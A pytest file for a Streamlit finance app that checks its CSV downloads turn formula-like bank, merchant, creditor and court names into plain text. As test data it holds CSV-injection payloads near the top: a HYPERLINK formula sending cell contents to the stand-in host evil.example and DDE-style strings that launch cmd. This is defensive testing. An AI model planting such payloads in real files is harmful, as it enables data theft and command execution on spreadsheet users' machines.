"""CSV downloads open in a spreadsheet as the text and numbers they hold, never as formulas.

Upstream names (banks, accounts, merchants, creditors, courts) that start like a formula are
served by the local Plaid double and an Experian stand-in; every download button on every
page is then clicked the way Streamlit does (its deferred callable is run) and the bytes are
read back with the csv module.
"""

from __future__ import annotations

import ast
import copy
import csv
import dataclasses
import io
from collections.abc import Callable, Iterator
from typing import Any

import pandas as pd
import pytest
import responses
from streamlit.testing.v1 import AppTest

from integrations.demo.experian import experian_demo_report
from integrations.demo.plaid import DemoPlaidItem, plaid_demo_items
from services.views.export import FORMULA_STARTS, to_csv_bytes
from tests.support.apps import ROOT
from tests.support.clock import TODAY
from tests.support.experian_support import answer_with_report, seeded
from tests.support.plaid_double import PlaidDouble
from tests.support.streamlit_internals import record_deferred_downloads

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+2"
MINUS = "-3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CARRIAGE_RETURN = "\r=1+1"
FORMULAS = (HYPERLINK, COMMAND, PLUS, MINUS, TAB, CARRIAGE_RETURN)
INSTITUTIONS = (HYPERLINK, COMMAND)
TOKENS = ("access-sandbox-formula-bank", "access-sandbox-formula-cards")

# Every CSV the pages offer, by button key: a page that adds one is looked at too.
EXPECTED_BUTTONS = {
    "cards_csv",
    "cards_plan_csv",
    "tx_csv",
    "tx_recurring_csv",
    "tx_unusual_csv",
    "bills_csv",
    "tl_csv",
    "ph_csv",
    "inq_csv",
    "pr_csv",
    "xc_csv",
    "xc_loans_csv",
    "accounts_cash_csv",
    "accounts_loans_csv",
}


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def number(cell: str) -> bool:
    """A cell a spreadsheet reads as a plain number (a negative amount starts with "-")."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- to_csv_bytes itself --------------------------------------------------------------------


def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "merchant": [*FORMULAS, "Café - Bar", "O'Hare"],
            "institution": pd.Categorical([HYPERLINK, COMMAND, *["Harborline Bank"] * 6]),
            "account": pd.array([PLUS, MINUS, TAB, CARRIAGE_RETURN, *["Checking"] * 4], "string"),
            "amount": [-12.5, 3.0, -0.01, 0.0, 1e6, -7.0, 2.5, 4.0],
            "charges": [-1, 2, 3, 4, 5, 6, 7, 8],
            "pending": [True, False, True, False, True, False, True, False],
            "date": pd.to_datetime(["2026-01-02"] * 8),
        }
    )
    rows = read_csv(to_csv_bytes(frame))
    assert [r["merchant"] for r in rows] == [*(f"'{f}" for f in FORMULAS), "Café - Bar", "O'Hare"]
    assert [r["institution"] for r in rows[:3]] == [
        f"'{HYPERLINK}",
        f"'{COMMAND}",
        "Harborline Bank",
    ]
    assert [r["account"] for r in rows[:5]] == [
        f"'{PLUS}",
        f"'{MINUS}",
        f"'{TAB}",
        f"'{CARRIAGE_RETURN}",
        "Checking",
    ]
    assert [float(r["amount"]) for r in rows] == [-12.5, 3.0, -0.01, 0.0, 1e6, -7.0, 2.5, 4.0]
    assert rows[0]["amount"] == "-12.5"  # as a number, not "'-12.5"
    assert [r["charges"] for r in rows[:2]] == ["-1", "2"]
    assert rows[0]["pending"] == "True"
    assert rows[0]["date"] == "2026-01-02"
    assert frame.loc[0, "merchant"] == HYPERLINK  # the page's own frame is left as it is


def test_numbers_held_among_text_stay_numbers_and_empty_cells_stay_empty() -> None:
    frame = pd.DataFrame({"mixed": [-12.5, None, "=1+1", 3], "code": ["-", "", None, "A-1"]})
    rows = read_csv(to_csv_bytes(frame))
    assert [r["mixed"] for r in rows] == ["-12.5", "", "'=1+1", "3"]
    assert [r["code"] for r in rows] == ["'-", "", "", "A-1"]


def test_a_line_break_inside_a_name_cannot_start_a_row_of_its_own() -> None:
    names = ["Coffee\r=1+1", "Books\n@SUM(1)", "Tea\r\n-2+3"]
    frame = pd.DataFrame({"merchant": names, "amount": [-12.5, 1.0, 2.0]})
    rows = read_csv(to_csv_bytes(frame))
    assert [r["merchant"] for r in rows] == names
    assert [float(r["amount"]) for r in rows] == [-12.5, 1.0, 2.0]


# --- every download on every page -----------------------------------------------------------


def _formula(number: int, original: str) -> str:
    """A formula-like name that stays apart per original name (recurring charges are found
    per merchant)."""
    return f"{FORMULAS[number % len(FORMULAS)]} {original}"


def _accounts(item: DemoPlaidItem) -> Iterator[dict[str, Any]]:
    bodies = [item.accounts_get, *item.transactions_sync_pages]
    if item.liabilities_get is not None:
        bodies.append(item.liabilities_get)
    for body in bodies:
        yield from body.get("accounts") or ()


def _with_formula_names(item: DemoPlaidItem, token: str, institution: str) -> DemoPlaidItem:
    item = dataclasses.replace(copy.deepcopy(item), access_token=token)
    # An id of its own: the double answers /institutions/get_by_id with the first Item at an id.
    institution_id = f"ins_formula_{token[-4:]}"
    item.item_get["item"].update(institution_id=institution_id, institution_name=institution)
    item.institution["institution"].update(institution_id=institution_id, name=institution)
    numbers: dict[str, int] = {}
    for account in _accounts(item):
        number = numbers.setdefault(account["account_id"], len(numbers))
        account["name"] = _formula(number + 2, f"card {number}")
        account["official_name"] = None
    merchants: dict[str, int] = {}
    for page in item.transactions_sync_pages:
        for transaction in (*page["added"], *page["modified"]):
            original = transaction["merchant_name"] or transaction["name"]
            number = merchants.setdefault(original, len(merchants))
            if transaction["merchant_name"] is not None:
                transaction["merchant_name"] = _formula(number, original)
            transaction["name"] = _formula(number + 1, transaction["name"])
    return item


def _formula_report() -> dict[str, Any]:
    body = copy.deepcopy(experian_demo_report(TODAY))
    profile = body["creditProfile"][0]
    for number, tradeline in enumerate(profile["tradeline"]):
        # Experian's text is trimmed when read: the tab and CR variants would not survive.
        tradeline["subscriberName"] = _formula(number % 4, f"LENDER {number}")
    for number, inquiry in enumerate(profile["inquiry"]):
        inquiry["subscriberName"] = _formula(number % 4, f"INQUIRER {number}")
    for record in profile["publicRecord"]:
        record.update(courtName=HYPERLINK, plaintiffName=COMMAND)
    return body


@pytest.fixture
def formula_upstreams(
    monkeypatch: pytest.MonkeyPatch, plaid_double: PlaidDouble, experian: responses.RequestsMock
) -> None:
    for item, token, institution in zip(plaid_demo_items(TODAY), TOKENS, INSTITUTIONS, strict=True):
        plaid_double.add_item(token, _with_formula_names(item, token, institution))
    for name, value in {
        "PLAID_CLIENT_ID": PlaidDouble.CLIENT_ID,
        "PLAID_SECRET": PlaidDouble.SECRET,
        "PLAID_BASE_URL": plaid_double.url,
        "PLAID_ACCESS_TOKEN": ",".join(TOKENS),
    }.items():
        monkeypatch.setenv(name, value)
    answer_with_report(experian, json=_formula_report())


@pytest.fixture
def deferred_downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[], Any]]:
    """What each download button hands Streamlit to run on a click, by its file id."""
    return record_deferred_downloads(monkeypatch)


def clicked_downloads(at: AppTest, registered: dict[str, Callable[[], Any]]) -> dict[str, bytes]:
    """The bytes each enabled download button on the page serves, by its key."""
    served: dict[str, bytes] = {}
    for button in at.get("download_button"):
        assert button.proto.deferred_file_id, f"{button.proto.id} has nothing to download"
        data = registered[button.proto.deferred_file_id]()
        served[button.proto.id.rsplit("-", 1)[-1]] = data
    return served


def assert_fine(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]
    assert not [e.value for e in at.error if "Something went wrong" in e.value]


def test_every_download_on_every_page_opens_upstream_formulas_as_text(
    formula_upstreams: None, deferred_downloads: dict[str, Callable[[], Any]]
) -> None:
    at = seeded("pages/cards.py")
    assert_fine(at)
    served = clicked_downloads(at, deferred_downloads)
    at.query_params["period"] = "all"
    at.switch_page("pages/transactions.py").run()
    for tab in ("Transactions", "Recurring payments", "Unusual activity"):
        at.session_state["tx_tab"] = tab  # only the open tab is drawn
        at.run()
        assert_fine(at)
        served |= clicked_downloads(at, deferred_downloads)
    at.switch_page("pages/bills.py").run()
    assert_fine(at)
    served |= clicked_downloads(at, deferred_downloads)
    at.switch_page("pages/credit_report.py").run()
    assert_fine(at)
    served |= clicked_downloads(at, deferred_downloads)
    at.switch_page("pages/accounts.py").run()
    assert_fine(at)
    served |= clicked_downloads(at, deferred_downloads)
    assert set(served) == EXPECTED_BUTTONS

    tables = {key: read_csv(data) for key, data in served.items()}
    for key, rows in tables.items():
        assert rows, f"{key} is empty: nothing hostile was exported"
        for row in rows:
            live = [v for v in row.values() if v.startswith(FORMULA_STARTS) and not number(v)]
            assert live == [], (key, live)

    transactions = tables["tx_csv"]
    assert {r["institution"] for r in transactions} == {f"'{name}" for name in INSTITUTIONS}
    merchants = {r["merchant"] for r in transactions if r["merchant"]}
    for formula in FORMULAS:
        assert any(m.startswith(f"'{formula} ") for m in merchants), formula
    assert all(r["account"].startswith("'") for r in transactions)
    amounts = [float(r["amount"]) for r in transactions]  # numbers, not text
    assert min(amounts) < 0 < max(amounts)

    creditors = {value for r in tables["tl_csv"] for value in r.values()}
    assert any(v.startswith(f"'{HYPERLINK} LENDER") for v in creditors)
    assert any(v.startswith(f"'{COMMAND} LENDER") for v in creditors)
    records = tables["pr_csv"][0]
    assert (records["court"], records["plaintiff"]) == (f"'{HYPERLINK}", f"'{COMMAND}")
    float(records["amount"])
    for row in tables["cards_csv"]:
        assert row["institution"] in {f"'{name}" for name in INSTITUTIONS}


# --- one path for every export --------------------------------------------------------------


def _calls(path: str, name: str) -> list[str]:
    """The functions of a module that call ``name`` (as a function or a method)."""
    tree = ast.parse((ROOT / path).read_text(encoding="utf-8"))
    callers = []
    for function in ast.walk(tree):
        if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        for node in ast.walk(function):
            called = getattr(node, "func", None)
            if isinstance(called, ast.Attribute | ast.Name) and (
                getattr(called, "attr", None) == name or getattr(called, "id", None) == name
            ):
                callers.append(function.name)
    return callers


def test_every_download_button_and_csv_goes_through_the_one_export() -> None:
    """A page that wrote its own CSV, or drew its own download button, would skip the
    neutralisation: only `csv_download` draws the button and only `to_csv_bytes` writes CSV."""
    sources = sorted(
        str(p.relative_to(ROOT)) for d in ("pages", "services") for p in (ROOT / d).rglob("*.py")
    )
    buttons = {path: _calls(path, "download_button") for path in sources}
    writers = {path: _calls(path, "to_csv") for path in sources}
    assert {p: c for p, c in buttons.items() if c} == {
        "pages/_shared.py": ["csv_download", "zip_download"]
    }
    assert {p: c for p, c in writers.items() if c} == {"services/views/export.py": ["to_csv_bytes"]}
    assert "csv_download" in _calls("pages/_shared.py", "to_csv_bytes")
